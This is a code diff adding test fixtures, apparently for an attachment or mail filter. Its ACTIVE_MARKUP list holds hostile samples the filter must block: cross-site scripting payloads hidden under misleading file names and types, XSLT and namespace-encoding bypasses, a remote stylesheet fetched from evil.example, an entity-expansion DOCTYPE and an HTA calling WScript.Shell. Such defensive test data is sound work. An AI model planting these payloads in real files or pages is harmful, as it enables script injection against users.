@@ -812,3 +812,97 @@ def ppt_object_oletools_cannot_parse() -> bytes:
     release_8 = bytes.fromhex("75736572080000007500730065007200")
     assert data.count(release_8) == 1, "corpus sample changed"
     return data.replace(release_8, bytes.fromhex("75736572070000007500730065007200"))
+
+
+_XHTML_SCRIPT = (
+    b'<?xml version="1.0" encoding="utf-8"?>\n'
+    b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Invoice</title></head>'
+    b"<body><p>Invoice</p><script>alert(document.domain)</script></body></html>"
+)
+
+# Markup a browser (or a mail client's viewer) runs, under names and declared types other than
+# .html/text/html: (file name, declared type, bytes). Each must be held, or arrive with no
+# script, event handler or other active markup left. See MARKUP_BENIGN for the controls.
+ACTIVE_MARKUP: tuple[tuple[str, str, bytes], ...] = (
+    ("invoice.shtml", "text/html", b"<img src=x onerror=alert(1)><p>Invoice</p>"),
+    ("invoice.shtm", "application/octet-stream", b"<p>Invoice</p><img src=x onerror=alert(1)>"),
+    ("invoice.stm", "text/plain", b'<!--#include virtual="/x" --><b onmouseover=alert(1)>x</b>'),
+    ("invoice.xht", "application/xhtml+xml", _XHTML_SCRIPT),
+    ("invoice.xhtml", "text/plain", _XHTML_SCRIPT.replace(b"<body>", b'<body onload="alert(1)">')),
+    ("data.xml", "text/xml", _XHTML_SCRIPT),
+    (
+        "prefixed.xml",
+        "application/xml",
+        b'<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml">'
+        b"<h:body><h:script>alert(1)</h:script></h:body></h:html>",
+    ),
+    (
+        "encoded-namespace.xml",
+        "text/xml",
+        b'<?xml version="1.0"?><html xmlns="&#x68;ttp://www.w3.org/1999/xhtml">'
+        b"<body><script>alert(1)</script></body></html>",
+    ),
+    (
+        "styled.xml",
+        "text/xml",
+        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#style"?>\n'
+        b'<doc><xsl:stylesheet id="style" version="1.0" '
+        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
+        b"<html><body><script>alert(1)</script></body></html></xsl:template></xsl:stylesheet>"
+        b"</doc>",
+    ),
+    (
+        "remote-style.xml",
+        "application/xml",
+        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'
+        b"<order><item>1</item></order>",
+    ),
+    (
+        "drawing.xml",
+        "text/xml",
+        b'<?xml version="1.0"?><root><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+        b"<rect width='1' height='1'/></svg></root>",
+    ),
+    (
+        "entities.xml",
+        "text/xml",
+        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+        b"<d>&b;</d>",
+    ),
+    ("note.txt", "text/plain", b"<img src=x onerror=alert(1)>\r\nPlease see the invoice.\r\n"),
+    ("note.txt", "text/plain", b"\xef\xbb\xbf  <svg/onload=alert(1)>"),
+    ("readme", "text/html", b"Hello <svg onload=alert(1)> there"),
+    (
+        "invoice.xsl",
+        "text/xsl",
+        b'<?xml version="1.0"?><xsl:stylesheet version="1.0" '
+        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
+    ),
+    ("table.csv", "text/html", b"name,amount\r\n<script>alert(1)</script>,1\r\n"),
+    (
+        "app.hta",
+        "text/plain",
+        b"<hta:application/><script>new ActiveXObject('WScript.Shell')</script>",
+    ),
+    (
+        "archive.mht",
+        "application/octet-stream",
+        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
+        b"Content-Type: text/html\r\nContent-Location: file:///c:/x.htm\r\n\r\n"
+        b"<html><body><script>alert(1)</script></body></html>\r\n--b--\r\n",
+    ),
+)
+
+# Markup and markup-looking text that is harmless: delivered, readable.
+MARKUP_BENIGN: tuple[tuple[str, str, bytes], ...] = (
+    (
+        "住所録.xml",
+        "text/xml",
+        (
+            '<?xml version="1.0" encoding="Shift_JIS"?>\r\n'
+            '<住所録><人 名="山田">東京都</人></住所録>\r\n'
+        ).encode("cp932"),
+    ),
+    ("memo.txt", "text/plain", b"if a < b and c > d then <b> is bold in HTML\r\n"),
+    ("page.shtml", "text/html", b"<p>Opening hours: 9-17</p>"),
+)
